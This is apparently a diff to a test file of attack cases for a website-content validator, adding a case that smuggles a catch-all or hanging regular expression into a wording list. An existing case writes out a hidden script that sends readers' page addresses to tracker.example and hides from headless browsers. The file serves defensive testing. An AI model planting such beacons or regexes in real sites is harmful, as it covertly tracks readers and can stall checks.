@@ -459,6 +459,15 @@ ATTACKS = [
         ["data/search.yml:1: has no entry for the site's language 'en' (add an entry with id: en, as for the other languages)"],
     ),
     Attack(
+        "wording-pattern",
+        "A regular expression among the endings of a phrase to avoid, to flag every word (or to make the check hang)",
+        ("replace", "data/wording.yml", '["suffers from", "suffering from"]', '["suffers from", "ligon(is|.*)"]'),
+        [
+            "data/wording.yml:3: entry 'suffers-from' → avoid: 'ligon(is|.*)' is not a phrase of words with their endings in brackets (write words of letters; "
+            "for a word whose ending changes, list its endings in brackets, separated by |, e.g. ligon(is|io|iui), without spaces or brackets inside brackets)"
+        ],
+    ),
+    Attack(
         "asset-beacon",
         "A script in the site's assets that sends readers' visits to a tracker, hidden from headless browsers",
         ("write", "docs/beacon.js", "if (!navigator.webdriver) navigator.sendBeacon('https://tracker.example/b', location.href)\n"),
